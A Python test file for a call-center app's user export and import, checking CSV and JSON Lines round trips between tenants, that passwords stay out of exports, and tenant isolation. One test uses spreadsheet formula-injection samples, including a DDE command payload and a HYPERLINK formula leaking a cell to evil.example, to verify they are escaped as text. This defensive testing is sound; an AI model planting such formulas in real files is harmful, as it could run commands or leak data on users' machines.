import csv
import io
import json
from typing import Any

import httpx

from app.db.session import Database
from tests.helpers.api import TenantKeys, add_device, add_extension, create_user
from tests.helpers.imports import HEADER, post_import, stored_counts


async def table(client: httpx.AsyncClient, keys: TenantKeys) -> list[tuple[Any, ...]]:
    """The Users table as an operator compares two tenants: everything but ids and times."""
    listed = await client.get("/v1/users", params={"limit": 200}, headers=keys.admin)
    return sorted(
        (
            user["display_name"],
            user["email"],
            user["external_ref"],
            tuple(user["extensions"]),
            tuple(sorted((d["name"], d["kind"]) for d in user["devices"])),
            user["limit_minutes"],
            user["outbound_allowed"],
            user["auto_answer"],
        )
        for user in listed.json()["items"]
    )


async def a_call_center(client: httpx.AsyncClient, keys: TenantKeys) -> list[str]:
    """Agents made one request at a time, as before the import existed; their passwords."""
    lan = await create_user(
        client,
        keys.admin,
        display_name="Nguyễn Thị Lan",
        email="lan@acme.vn",
        external_ref="emp-1",
        limit_minutes=600,
        auto_answer=True,
    )
    desk = await add_device(client, keys.admin, lan["id"], name="Lan.Desk", kind="ip_phone")
    await add_extension(client, keys.admin, lan["id"], "102")
    await add_extension(client, keys.admin, lan["id"], "007")
    minh = await create_user(
        client, keys.admin, display_name='Trần "Minh", ca đêm', outbound_allowed=False
    )
    await add_extension(client, keys.admin, minh["id"], "103")
    hung = await create_user(client, keys.admin, display_name="Hùng", external_ref="emp-0")
    return [
        lan["default_device_password"],
        desk["password"],
        minh["default_device_password"],
        hung["default_device_password"],
    ]


async def test_an_export_imports_into_an_empty_tenant_as_the_same_users(
    client: httpx.AsyncClient, tenant: TenantKeys, other_tenant: TenantKeys
) -> None:
    passwords = await a_call_center(client, tenant)

    exported = await client.get("/v1/users/export", headers=tenant.admin)

    assert exported.status_code == 200
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    assert exported.headers["content-disposition"] == 'attachment; filename="users.csv"'
    lines = exported.text.split("\r\n")
    assert lines[0] == HEADER
    # By external reference, then the users without one; extensions and devices in order.
    assert lines[1].startswith("Hùng,,emp-0,,hung-")
    assert lines[2] == "Nguyễn Thị Lan,lan@acme.vn,emp-1,007 102," + (
        f"Lan.Desk:ip_phone {lines[2].split(',')[4].split(' ')[1]},600,true,true"
    )
    assert lines[3].startswith('"Trần ""Minh"", ca đêm",,,103,')
    assert not any(password in exported.text for password in passwords)

    imported = await post_import(client, other_tenant.admin, exported.content)

    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 3
    assert await table(client, other_tenant) == await table(client, tenant)
    again = await client.get("/v1/users/export", headers=other_tenant.admin)
    assert again.text == exported.text


async def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_as_they_were(
    client: httpx.AsyncClient, tenant: TenantKeys, other_tenant: TenantKeys
) -> None:
    written = {
        "f-1": "=cmd|' /C calc'!A0",
        "f-2": "+SUM(1,2)",
        "f-3": '@HYPERLINK("http://evil.example/?q="&A1,"Open")',
        "f-4": "-2+3",
        "f-5": "'=A1 (already marked as text)",
        "f-6": "'quoted, but no formula",
    }
    for ref, name in written.items():
        await create_user(client, tenant.admin, display_name=name, external_ref=ref)
    plain = await create_user(
        client, tenant.admin, display_name="Plain", email="=1+1@acme.vn", external_ref="@ops"
    )
    await add_device(client, tenant.admin, plain["id"], name="-night.desk", kind="web")

    exported = await client.get("/v1/users/export", headers=tenant.admin)

    rows = list(csv.reader(io.StringIO(exported.text)))[1:]
    cells = {row[2]: row for row in rows}
    assert {ref: cells[ref][0] for ref in written} == {
        "f-1": "'=cmd|' /C calc'!A0",
        "f-2": "'+SUM(1,2)",
        "f-3": '\'@HYPERLINK("http://evil.example/?q="&A1,"Open")',
        "f-4": "'-2+3",
        "f-5": "''=A1 (already marked as text)",
        "f-6": "'quoted, but no formula",
    }
    assert cells["'@ops"][:4] == ["Plain", "'=1+1@acme.vn", "'@ops", ""]
    # Devices by name: this one before the default device (plain-...).
    assert cells["'@ops"][4].startswith("'-night.desk:web plain-")
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]

    imported = await post_import(client, other_tenant.admin, exported.content)

    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 7
    assert await table(client, other_tenant) == await table(client, tenant)
    names = {row[2]: row[0] for row in await table(client, other_tenant)}
    assert {ref: names[ref] for ref in written} == written
    again = await client.get("/v1/users/export", headers=other_tenant.admin)
    assert again.content == exported.content


async def test_json_lines_export_and_import_the_same(
    client: httpx.AsyncClient, tenant: TenantKeys, other_tenant: TenantKeys
) -> None:
    passwords = await a_call_center(client, tenant)

    exported = await client.get(
        "/v1/users/export", params={"format": "jsonl"}, headers=tenant.viewer
    )

    assert exported.status_code == 200
    assert exported.headers["content-type"] == "application/x-ndjson; charset=utf-8"
    rows = [json.loads(line) for line in exported.text.splitlines()]
    assert [row["external_ref"] for row in rows] == ["emp-0", "emp-1", None]
    assert rows[1]["extensions"] == ["007", "102"]
    assert rows[1]["devices"][0] == {"name": "Lan.Desk", "kind": "ip_phone"}
    assert list(rows[0]) == HEADER.split(",")
    assert not any(password in exported.text for password in passwords)
    imported = await post_import(
        client, other_tenant.admin, exported.content, content_type="application/x-ndjson"
    )
    assert imported.status_code == 200, imported.text
    assert await table(client, other_tenant) == await table(client, tenant)


async def test_a_tenants_export_is_its_own(
    client: httpx.AsyncClient, tenant: TenantKeys, other_tenant: TenantKeys, db: Database
) -> None:
    await a_call_center(client, tenant)

    exported = await client.get("/v1/users/export", headers=other_tenant.admin)

    assert exported.text == HEADER + "\r\n"
    assert (await stored_counts(db))["user_account"] == 3
